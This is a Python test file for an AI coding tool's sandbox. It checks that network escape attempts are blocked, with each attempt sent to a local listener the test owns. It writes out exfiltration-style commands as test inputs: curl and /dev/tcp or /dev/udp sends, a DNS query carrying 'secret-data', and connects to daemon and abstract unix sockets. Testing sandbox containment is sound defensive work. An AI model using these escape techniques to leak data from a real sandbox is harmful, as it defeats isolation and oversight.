"""Escape attempts on the network: a listener the test owns must receive nothing.

Each attempt has a control with ``network_access = true`` where the same code reaches the
same kind of listener, so a broken attempt cannot pass for a blocked one.
"""

from __future__ import annotations

import errno
import shutil
import socket
import struct

import pytest

from pycodex.protocol.policy import SandboxMode
from tests.sandbox.conftest import Tree
from tests.sandbox.sandboxed import (
    listener,
    policy,
    py,
    require_sandbox,
    sh,
    unix_listener,
)

WW = SandboxMode.WORKSPACE_WRITE
RO = SandboxMode.READ_ONLY

pytestmark = pytest.mark.usefixtures("sandbox_available")


@pytest.fixture
def sandbox_available() -> None:
    require_sandbox()


def _tcp_py(port: int) -> str:
    return (
        "import socket\n"
        f"s = socket.create_connection(('127.0.0.1', {port}), timeout=3)\n"
        "s.sendall(b'leak')\n"
    )


def _udp_py(port: int, payload: bytes) -> str:
    return (
        "import socket\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        f"s.sendto({payload!r}, ('127.0.0.1', {port}))\n"
    )


def _dns_query(name: str) -> bytes:
    header = struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    qname = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    return header + qname + struct.pack("!HH", 1, 1)


@pytest.mark.parametrize("mode", [RO, WW])
def test_tcp_python(tree: Tree, mode: SandboxMode) -> None:
    with listener() as lst:
        r = py(policy(mode, tree.ws), _tcp_py(lst.port), tree.ws)
        assert "PermissionError" in r.stderr
        assert not lst.reached()


def test_tcp_python_control_with_network(tree: Tree) -> None:
    with listener() as lst:
        r = py(policy(WW, tree.ws, network=True), _tcp_py(lst.port), tree.ws)
        assert r.returncode == 0, r.stderr
        assert lst.reached()


@pytest.mark.skipif(shutil.which("curl") is None, reason="curl is not installed")
@pytest.mark.parametrize("network", [False, True])
def test_tcp_curl(tree: Tree, network: bool) -> None:
    with listener() as lst:
        sh(
            policy(WW, tree.ws, network=network),
            f"curl -sS -m 3 http://127.0.0.1:{lst.port}/ -o /dev/null",
            tree.ws,
        )
        assert lst.reached() is network


@pytest.mark.parametrize("network", [False, True])
def test_tcp_bash_dev_tcp(tree: Tree, network: bool) -> None:
    with listener() as lst:
        sh(
            policy(WW, tree.ws, network=network),
            f"echo leak > /dev/tcp/127.0.0.1/{lst.port}",
            tree.ws,
        )
        assert lst.reached() is network


@pytest.mark.parametrize("network", [False, True])
def test_udp_python(tree: Tree, network: bool) -> None:
    with listener(socket.SOCK_DGRAM) as lst:
        py(policy(WW, tree.ws, network=network), _udp_py(lst.port, b"leak"), tree.ws)
        assert lst.reached() is network


@pytest.mark.parametrize("network", [False, True])
def test_udp_bash_dev_udp(tree: Tree, network: bool) -> None:
    with listener(socket.SOCK_DGRAM) as lst:
        sh(
            policy(WW, tree.ws, network=network),
            f"echo leak > /dev/udp/127.0.0.1/{lst.port}",
            tree.ws,
        )
        assert lst.reached() is network


@pytest.mark.parametrize("network", [False, True])
def test_dns_query_to_local_resolver(tree: Tree, network: bool) -> None:
    """A DNS question (the exfiltration channel that survives most firewalls)."""
    with listener(socket.SOCK_DGRAM) as lst:
        query = _dns_query("secret-data.example.com")
        py(
            policy(RO if not network else WW, tree.ws, network=network),
            _udp_py(lst.port, query),
            tree.ws,
        )
        assert lst.reached() is network
        if network:
            assert b"secret-data" in lst.got[0]


_IO_URING = """
import ctypes, platform
libc = ctypes.CDLL(None, use_errno=True)
params = ctypes.create_string_buffer(120)
fd = libc.syscall(425, 8, params)
print("fd", fd, "errno", ctypes.get_errno())
"""


@pytest.mark.parametrize("mode", [RO, WW])
def test_io_uring_setup(tree: Tree, mode: SandboxMode) -> None:
    r = py(policy(mode, tree.ws, network=True), _IO_URING, tree.ws)
    assert r.stdout.strip() == f"fd -1 errno {errno.EPERM}"


@pytest.mark.parametrize(
    ("family", "kind"),
    [
        ("AF_NETLINK", "SOCK_RAW"),
        ("AF_PACKET", "SOCK_RAW"),
        ("AF_VSOCK", "SOCK_STREAM"),
        ("AF_INET6", "SOCK_STREAM"),
        ("AF_INET", "SOCK_RAW"),
        ("AF_UNIX", "SOCK_DGRAM"),
    ],
)
def test_socket_family_denied(tree: Tree, family: str, kind: str) -> None:
    code = (
        "import socket\n"
        "try:\n"
        f"    socket.socket(socket.{family}, socket.{kind})\n"
        "    print('created')\n"
        "except OSError as e:\n"
        "    print('errno', e.errno)\n"
    )
    r = py(policy(WW, tree.ws), code, tree.ws)
    assert r.stdout.strip() == f"errno {errno.EPERM}"


_UNIX_CONNECT = "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect(PATH)\n"


@pytest.mark.parametrize(
    ("mode", "network"),
    [(RO, False), (WW, False), (WW, True), (SandboxMode.DANGER_FULL_ACCESS, True)],
)
def test_unix_socket_outside(tree: Tree, mode: SandboxMode, network: bool) -> None:
    """A daemon's socket (think /var/run/docker.sock); danger-full-access is the control."""
    path = tree.out / "daemon.sock"
    with unix_listener(str(path)) as lst:
        r = py(
            policy(mode, tree.ws, network=network),
            _UNIX_CONNECT.replace("PATH", repr(str(path))),
            tree.ws,
        )
        if mode is SandboxMode.DANGER_FULL_ACCESS:
            assert r.returncode == 0, r.stderr
            assert lst.reached()
        else:
            assert "PermissionError" in r.stderr
            assert not lst.reached()


def test_unix_socket_inside_workspace_is_refused_too(tree: Tree) -> None:
    """Documented limit: no unix-socket client at all, even to a socket in the workspace."""
    path = tree.ws / "local.sock"
    with unix_listener(str(path)) as lst:
        r = py(
            policy(WW, tree.ws, network=True),
            _UNIX_CONNECT.replace("PATH", repr(str(path))),
            tree.ws,
        )
        assert "PermissionError" in r.stderr
        assert not lst.reached()


@pytest.mark.parametrize("network", [False, True])
def test_abstract_unix_socket_outside(tree: Tree, network: bool) -> None:
    """Abstract sockets have no path: Landlock scoping (ABI 6) refuses them even with network."""
    name = b"\0pycodex-test-" + str(tree.ws).encode().replace(b"/", b"-")
    with unix_listener(name) as lst:
        code = f"import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect({name!r})\n"
        r = py(policy(WW, tree.ws, network=network), code, tree.ws)
        assert "PermissionError" in r.stderr
        assert not lst.reached()


def test_abstract_unix_server_inside(tree: Tree) -> None:
    """A name an outside client trusts (a display, a bus) cannot be squatted from inside."""
    code = "import socket\ns = socket.socket(socket.AF_UNIX)\ns.bind(b'\\0pycodex-squat')\n"
    r = py(policy(WW, tree.ws), code, tree.ws)
    assert "PermissionError" in r.stderr
    probe = socket.socket(socket.AF_UNIX)
    try:
        with pytest.raises(ConnectionRefusedError):
            probe.connect(b"\0pycodex-squat")
    finally:
        probe.close()


def test_unix_datagram_to_outside_path(tree: Tree) -> None:
    path = tree.out / "log.sock"
    srv = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    try:
        srv.bind(str(path))
        code = (
            "import socket\n"
            "a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)\n"
            f"a.sendto(b'leak', {str(path)!r})\n"
        )
        py(policy(WW, tree.ws), code, tree.ws)
        srv.setblocking(False)
        with pytest.raises(BlockingIOError):
            srv.recv(100)
    finally:
        srv.close()


def test_tcp_bind_denied(tree: Tree) -> None:
    r = py(
        policy(WW, tree.ws),
        "import socket\ns = socket.socket()\ns.bind(('127.0.0.1', 0))\n",
        tree.ws,
    )
    assert "PermissionError" in r.stderr
